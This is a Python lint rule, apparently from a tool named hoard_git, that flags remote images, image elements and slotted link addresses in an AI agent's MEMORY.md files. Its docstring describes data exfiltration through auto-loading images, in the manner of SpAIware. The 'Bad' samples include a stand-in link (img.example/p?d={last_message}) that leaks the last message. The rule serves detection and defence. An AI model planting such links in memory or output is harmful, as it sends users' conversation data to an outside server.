r"""An image is loaded from somewhere else, or a link's address has a slot that gets filled in.

## Why

A page that shows memory fetches the picture by itself: the owner of the server learns that it was read, and an address such as
`https://img.example/p?d={last_message}` carries data out (the way of SpAIware, 2024). No memory file of 47 real workspaces held a remote image.

## Bad

    file: MEMORY.md
    | - ![status](https://img.example/pixel.png) <!-- src:web ts:2026-06-01 -->

By reference:

    file: MEMORY.md
    | - ![status][s] <!-- src:web ts:2026-06-01 -->
    |
    | [s]: https://img.example/pixel.png

A slot in a link:

    file: MEMORY.md
    | - [more](https://img.example/p?d={last_message}) <!-- src:web ts:2026-06-01 -->

## Good

    file: MEMORY.md
    | - ![plan](images/plan.png), [the page](https://example.org/page), `![x](https://img.example/x.png)` <!-- src:agent ts:2026-06-01 -->

## Instead

Store the picture in the workspace, or write down what it shows. Write a link without slots.
"""

from __future__ import annotations

from hoard_git.lint.scene import Hit, Meta

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from hoard_git.lint.scene import FileView, Scene

META = Meta("HG406", "remote-image", "warn", "file", trigger=("![", "](", "<", "]:"))


def check(file: FileView, scene: Scene) -> Iterator[Hit]:
    """Judge images, links and image elements; one finding a place."""
    del scene
    if not any(_may_load(line.lower().replace("<!-- src:", "")) for _number, line in file.judged_lines()):
        return
    import re

    from hoard_git.lint.prose import decode, find_links, runs

    remote = re.compile(r"\s*(?:https?:)?//[^/\s]", re.IGNORECASE | re.ASCII)
    slot = re.compile(r"\$?\{[^{}\s]{1,60}\}|\{\{|%7[Bb]|\$\([A-Za-z_]")
    element = re.compile(
        r"<(?:img|image|video|audio|source|iframe|embed|object|picture|track|input)\b[^<>]{0,2000}?(?:src|srcset|data|href|poster)\s{0,4}=\s{0,4}[\"']?\s{0,4}(?:https?:)?//"
        r"|\burl\(\s{0,4}[\"']?(?:https?:)?//",
        re.IGNORECASE | re.ASCII,
    )
    targets = _definitions(file)
    for run in runs(file):
        places = run.places()
        for link in find_links(run.text):
            target = decode(link.target or targets.get(link.label, ""))
            if link.image and remote.match(target):
                yield _hit("an image from another server", *places.place(link.start))
            elif slot.search(target) and (link.image or "://" in target):
                yield _hit("an address with a slot that gets filled in", *places.place(link.start))
        for match in element.finditer(run.text) if "<" in run.text or "url(" in run.text.lower() else ():
            yield _hit("an element that loads from another server", *places.place(match.start()))


def _may_load(low: str) -> bool:
    """Whether a line holds a link, an image, a definition or an attribute that names a source; the tag's own `src:` aside."""
    return "](" in low or "![" in low or "]:" in low or "src" in low or "url(" in low or "href" in low or "data=" in low or "poster" in low


def _definitions(file: FileView) -> dict[str, str]:
    """Reference definitions of the file: label in lower case to target; the first of a name counts."""
    found: dict[str, str] = {}
    for line in file.document.lines:
        at = line.find("]:")
        if at > 0 and line.lstrip(" \t>-+*").startswith("["):
            label = " ".join(line[line.index("[") + 1 : at].lower().split())
            rest = line[at + 2 :].split()
            found.setdefault(label, rest[0].strip("<>") if rest else "")
    return found


def _hit(message: str, line: int, column: int) -> Hit:
    return Hit(message, line, column, "keep the picture in the workspace, or write down what it shows")
